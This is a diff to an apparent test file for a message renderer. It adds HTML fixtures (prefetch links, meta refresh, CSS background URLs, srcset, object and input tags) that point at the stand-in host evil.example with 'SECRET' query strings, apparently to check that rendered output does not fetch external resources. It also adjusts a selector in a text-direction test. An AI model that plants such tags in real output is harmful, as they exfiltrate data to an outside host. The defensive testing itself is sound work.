@@ -27,6 +27,13 @@ Raw <img src="https://evil.example/p.png?q=SECRET" alt="x"> tag.
 <style>@import url(https://evil.example/b.css);</style>
 <iframe src="https://evil.example/"></iframe>
 <script src="https://evil.example/s.js"></script>
+<link rel="prefetch" href="https://evil.example/pre?q=SECRET">
+<link rel="dns-prefetch" href="//evil.example">
+<meta http-equiv="refresh" content="0;url=https://evil.example/">
+<div style="background:url(https://evil.example/bg.png?q=SECRET)">styled</div>
+<picture><source srcset="https://evil.example/s.png?q=SECRET 2x"></picture>
+<object data="https://evil.example/o.svg"></object>
+<input type="image" src="https://evil.example/i.png">
 
 [![x](https://evil.example/p.png?q=SECRET)](https://evil.example/page)
 
@@ -77,7 +84,9 @@ async def test_each_block_has_its_direction_and_code_is_left_to_right(
     workspace: Page, server: RunningServer
 ):
     message = await say(workspace, server, _DIRECTIONS)
-    directions = await message.locator(".prose > *").evaluate_all(
+    directions = await message.locator(
+        ".prose-section > :not(.prose-section)"
+    ).evaluate_all(
         "all => all.map((one) => [one.tagName, getComputedStyle(one).direction])"
     )
     assert directions == [
